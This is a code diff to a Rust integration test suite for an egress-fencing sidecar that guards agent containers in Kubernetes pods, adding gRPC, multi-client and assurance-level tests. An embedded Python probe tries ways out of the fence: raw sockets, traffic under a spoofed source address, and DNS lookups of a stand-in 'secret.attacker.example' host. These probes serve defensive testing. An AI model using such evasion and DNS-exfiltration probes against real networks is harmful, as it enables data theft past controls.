@@ -9,15 +9,17 @@ use std::{
     io::Write,
     path::Path,
     process::{Command, Output, Stdio},
+    time::{Duration, Instant},
 };
 
 use bytes::Bytes;
 use futures_util::stream;
-use http::{HeaderValue, Request, Response};
+use http::{HeaderMap, HeaderName, HeaderValue, Request, Response};
 use http_body_util::{BodyExt, StreamBody};
 use hyper::body::{Frame, Incoming};
 use rustix::process::Signal;
 use serde_json::{Value, json};
+use tokio::time::sleep;
 
 use self::kubelet::Pod;
 use crate::{
@@ -39,8 +41,8 @@ spec:
     spec:
       restartPolicy: Never
       containers:
-      - {name: agent, image: "registry.example.test/agent:1", command: ["true"], securityContext: {runAsUser: 1000, runAsGroup: 1000}}
-      - {name: root, image: "registry.example.test/agent:1", command: ["true"]}
+      - {name: agent, image: "registry.example.test/agent:1", command: [curl, -sS, "https://api.example.test/hello"], securityContext: {runAsUser: 1000, runAsGroup: 1000}}
+      - {name: root, image: "registry.example.test/agent:1", command: ["true"], securityContext: {runAsUser: 0, runAsGroup: 0}}
 "#;
 
 const CONFIG: &str = r#"
@@ -59,23 +61,24 @@ package tollgate
 
 default decision := {"decision": "allow"}
 
-decision := {"decision": "deny", "reason": "no_writes", "message": "this task only reads", "rule": "test.no_writes", "class": "security"} if {
-	input.call.segments[0] == "readonly"
-}
+decision := {"decision": "deny", "reason": "no_writes", "message": "this task only reads", "rule": "test.no_writes", "class": "security"} if writes
+
+writes if input.call.segments[0] == "readonly"
+
+writes if input.call.segments[1] == "Delete"
 "#;
 
-/// The manifest's pod, by the program that the platform uses.
-fn injected(capture: &str, privileges: &str) -> Value {
+/// The pod of a manifest, by the program that the platform uses. `agent` is what the platform says of agents.
+fn injected(job: &str, capture: &str, agent: Value) -> Value {
     let dir = tempfile::tempdir().expect("a directory");
     let settings = dir.path().join("inject.yaml");
-    let image = "registry.example.test/tollgate:1";
-    let (agent, sidecar) = (json!({"privileges": privileges}), json!({"policy": "policy"}));
+    let (image, sidecar) = ("registry.example.test/tollgate:1", json!({"policy": "policy"}));
     let text = json!({"image": image, "capture": capture, "agent": agent, "sidecar": sidecar}).to_string();
     fs::write(&settings, text).expect("written");
     let mut command = Command::new(TOLLGATE);
     command.args(["inject", "file", "--config"]).arg(&settings).stdin(Stdio::piped()).stdout(Stdio::piped());
     let mut child = command.spawn().expect("it can be started");
-    child.stdin.take().expect("a pipe").write_all(JOB.as_bytes()).expect("it reads");
+    child.stdin.take().expect("a pipe").write_all(job.as_bytes()).expect("it reads");
     let output = child.wait_with_output().expect("it ends");
     assert!(output.status.success(), "{output:?}");
     let job: Value = serde_saphyr::from_slice(&output.stdout).expect("YAML");
@@ -89,7 +92,7 @@ async fn world(network: &Network) -> Origin {
 
 /// The pod with its sidecar, before its agents.
 fn started<'a>(network: &'a Network, origin: &Origin, capture: &str) -> Pod<'a> {
-    started_with(network, origin, injected(capture, "drop"), capture)
+    started_with(network, origin, injected(JOB, capture, json!({"network_policy": true})), capture)
 }
 
 fn started_with<'a>(network: &'a Network, origin: &Origin, template: Value, capture: &str) -> Pod<'a> {
@@ -115,7 +118,20 @@ async fn serve(request: Request<Incoming>) -> Response<origin::Body> {
     }
     let path = request.uri().path().to_owned();
     let body = request.into_body().collect().await.expect("the body is whole").to_bytes();
+    if path.starts_with("/test.Shop/") {
+        return echoed(if path.ends_with("/Watch") { 3 } else { 1 }, body);
+    }
     Response::new(origin::full(format!("{path} took {}", body.len())))
+}
+
+/// A gRPC answer of as many messages as are asked for, each the one that came.
+fn echoed(times: usize, message: Bytes) -> Response<origin::Body> {
+    let status = HeaderMap::from_iter([(HeaderName::from_static("grpc-status"), HeaderValue::from_static("0"))]);
+    let messages = std::iter::repeat_n(message, times).map(Frame::data);
+    let frames = messages.chain([Frame::trailers(status)]).map(Ok);
+    let mut response = Response::new(StreamBody::new(stream::iter(frames)).boxed_unsync());
+    response.headers_mut().insert("content-type", HeaderValue::from_static("application/grpc"));
+    response
 }
 
 fn lines(output: &Output) -> Vec<String> {
@@ -153,19 +169,36 @@ async fn a_pod_that_the_node_fences_in_holds_as_well() {
 }
 
 #[tokio::test(flavor = "multi_thread")]
-async fn a_pod_that_could_get_around_its_fence_is_not_called_fenced() {
+async fn a_pod_is_not_called_fenced_for_more_than_is_known_of_it() {
     if !can_be_had() {
         return;
     }
-    let network = Network::new();
-    let origin = world(&network).await;
-    // The container that runs as root keeps the right to become any user.
-    let pod = started_with(&network, &origin, injected("init", "lower"), "init");
-    let output = pod.run("agent", &["curl", "-sS", &format!("https://{NAME}/hello")]);
-    assert_eq!(lines(&output), ["/hello took 0"], "{output:?}");
-    let records = records(&pod);
-    let call = records.iter().find(|record| record["call"]["host"] == NAME).expect("it is recorded");
-    assert_eq!(call["agent"]["assurance"], "L0");
+    let unnamed = JOB.replace(", securityContext: {runAsUser: 1000, runAsGroup: 1000}", "");
+    for (job, capture, agent, level) in [
+        // The container that runs as root keeps the right to become any user.
+        (JOB, "init", json!({"network_policy": true, "privileges": "lower"}), "L0"),
+        // The image may say that it runs as the sidecar's user.
+        (&unnamed, "init", json!({"network_policy": true}), "L0"),
+        // Nobody said that the network denies what the node's rules might let out.
+        (JOB, "cni", json!({}), "L1"),
+    ] {
+        let network = Network::new();
+        let origin = world(&network).await;
+        let pod = started_with(&network, &origin, injected(job, capture, agent), capture);
+        let output = pod.run("agent", &["curl", "-sS", &format!("https://{NAME}/hello")]);
+        assert_eq!(lines(&output), ["/hello took 0"], "{output:?}");
+        // A record is finished once the client has its answer, maybe a moment later.
+        let end = Instant::now() + PATIENCE;
+        let call = loop {
+            let call = records(&pod).into_iter().find(|record| record["call"]["host"] == NAME);
+            assert!(call.is_some() || Instant::now() < end, "it is recorded");
+            if let Some(call) = call {
+                break call;
+            }
+            sleep(Duration::from_millis(20)).await;
+        };
+        assert_eq!(call["agent"]["assurance"], level, "{capture} {call}");
+    }
 }
 
 async fn the_pod_holds(capture: &str, level: &str) {
@@ -184,6 +217,13 @@ async fn the_pod_holds(capture: &str, level: &str) {
             let script = format!("cd {PARTS} && exec {client} https://{NAME} https://paste.example.test/");
             let output = pod.run(agent, &["sh", "-c", &script]);
             assert_eq!(lines(&output), told, "{agent} {client}: {}", String::from_utf8_lossy(&output.stderr));
+        }
+        if is_there(PYTHON) {
+            let script = format!("cd {PARTS} && exec {PYTHON} grpcio_client.py {NAME}:443 paste.example.test:443");
+            let output = pod.run(agent, &["sh", "-c", &script]);
+            let denied = "DENIED PERMISSION_DENIED this task only reads";
+            let told = ["UNARY hello", "STREAM 3", denied, "UNLISTED UNAVAILABLE"];
+            assert_eq!(lines(&output), told, "{agent} grpcio: {}", String::from_utf8_lossy(&output.stderr));
         }
         let output = pod.run(agent, &["/usr/bin/python3", "-c", WAYS_OUT]);
         let open: Vec<String> = lines(&output).into_iter().filter(|line| !line.ends_with("closed")).collect();
@@ -217,7 +257,7 @@ async fn a_dead_sidecar_closes_the_way_and_running_agents_go_on_with_the_next() 
     assert_eq!(call(), "200");
 
     pod.sidecar().signal(Signal::KILL);
-    assert_ne!(pod.sidecar().ended(), Some(0));
+    pod.sidecar().ended();
     assert_eq!(call(), "refused");
     // By address as well, and as root.
     let curl = ["curl", "-sS", "--max-time", "5", "https://192.0.2.1/"];
@@ -239,33 +279,34 @@ async fn a_jobs_pod_ends_when_its_agent_ends() {
     let network = Network::new();
     let origin = world(&network).await;
     let mut pod = started(&network, &origin, "init");
-    let output = pod.run("agent", &["curl", "-sS", &format!("https://{NAME}/hello")]);
-    assert_eq!((output.status.code(), lines(&output)), (Some(0), vec!["/hello took 0".to_owned()]));
-    // The kubelet ends a sidecar once no other container runs.
-    pod.sidecar().signal(Signal::TERM);
-    assert_eq!(pod.sidecar().ended(), Some(0));
-    let recorded: BTreeMap<&str, usize> = [(NAME, 1)].into();
-    let mut calls = BTreeMap::new();
-    let all = records(&pod);
-    for record in all.iter().filter(|record| record["call"]["host"] == NAME) {
-        *calls.entry(record["call"]["host"].as_str().expect("a name")).or_default() += 1;
-    }
-    assert_eq!(calls, recorded, "its record is whole");
+    let ended = pod.complete();
+    assert_eq!(lines(&ended["agent"]), ["/hello took 0"], "{:?}", ended["agent"]);
+    let codes: BTreeMap<&str, Option<i32>> =
+        ended.iter().map(|(name, output)| (name.as_str(), output.status.code())).collect();
+    assert_eq!(codes, [("agent", Some(0)), ("root", Some(0)), ("tollgate", Some(0))].into());
+    let calls = records(&pod).iter().filter(|record| record["call"]["host"] == NAME).count();
+    assert_eq!(calls, 1, "its record is whole");
 }
+
+const PATIENCE: Duration = Duration::from_secs(10);
 
 const PARTS: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/parts/clients");
 const PYTHON: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/target/parts/python/bin/python");
 const NODE24: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/target/parts/python/nodejs/bin/node");
 
 /// Clients that are given no proxy, or would not look at one: what each needs, and how it is started.
-const CLIENTS: [(&str, &str); 8] = [
+const CLIENTS: [(&str, &str); 12] = [
     ("/usr/bin/curl", "sh curl.sh --http1.1"),
     ("/usr/bin/curl", "sh curl.sh --http2"),
     ("/usr/bin/node", "/usr/bin/node fetch.mjs"),
+    ("/usr/bin/node", "/usr/bin/node https.mjs"),
     (NODE24, concat!(env!("CARGO_MANIFEST_DIR"), "/target/parts/python/nodejs/bin/node fetch.mjs")),
+    (NODE24, concat!(env!("CARGO_MANIFEST_DIR"), "/target/parts/python/nodejs/bin/node https.mjs")),
     (PYTHON, concat!(env!("CARGO_MANIFEST_DIR"), "/target/parts/python/bin/python aiohttp_client.py")),
     (PYTHON, concat!(env!("CARGO_MANIFEST_DIR"), "/target/parts/python/bin/python requests_client.py")),
     (PYTHON, concat!(env!("CARGO_MANIFEST_DIR"), "/target/parts/python/bin/python httpx_client.py")),
+    (PYTHON, concat!(env!("CARGO_MANIFEST_DIR"), "/target/parts/python/bin/python urllib3_client.py")),
+    ("/usr/bin/wget", "sh wget.sh"),
     ("/usr/bin/java", "java Client.java"),
 ];
 
@@ -325,6 +366,21 @@ tell("raw udp", lambda: other(v4, s.SOCK_RAW, s.IPPROTO_UDP, ("192.0.2.1", 0)))
 tell("raw gre", lambda: other(v4, s.SOCK_RAW, 47, ("192.0.2.1", 0)))
 tell("raw icmp6", lambda: other(v6, s.SOCK_RAW, 58, ("2001:db8::1", 0)))
 tell("packet", lambda: other(s.AF_PACKET, s.SOCK_RAW, s.htons(3)))
+def named(kind, protocol, address):
+    with s.socket(v6, kind, protocol) as c:
+        c.setsockopt(s.IPPROTO_IPV6, 78, 1)
+        c.bind(("2001:db8::7", 7777))
+        c.settimeout(1)
+        if kind == s.SOCK_STREAM:
+            return c.connect(address)
+        c.sendto(b"\x80\0\0\0\0\1\0\1", address)
+        return c.recv(64)
+server = s.create_server(("fd77::2", 9000), family=v6)
+tell("tcp in another's name", lambda: named(s.SOCK_STREAM, 0, ("fd77::2", 9000)))
+tell("udp in another's name", lambda: named(s.SOCK_DGRAM, 0, ("fd77::2", 9)))
+tell("udp out in another's name", lambda: named(s.SOCK_DGRAM, 0, ("2001:db8::1", 9)))
+tell("dns in another's name", lambda: named(s.SOCK_DGRAM, 0, ("2001:db8::1", 53)))
+tell("echo in another's name", lambda: named(s.SOCK_DGRAM, s.IPPROTO_ICMPV6, ("fd77::2", 0)))
 tell("name", lambda: s.getaddrinfo("secret.attacker.example", 443))
 def dns():
     question = b"\x12\x34\1\0\0\1\0\0\0\0\0\0\6secret\7example\0\0\1\0\1"
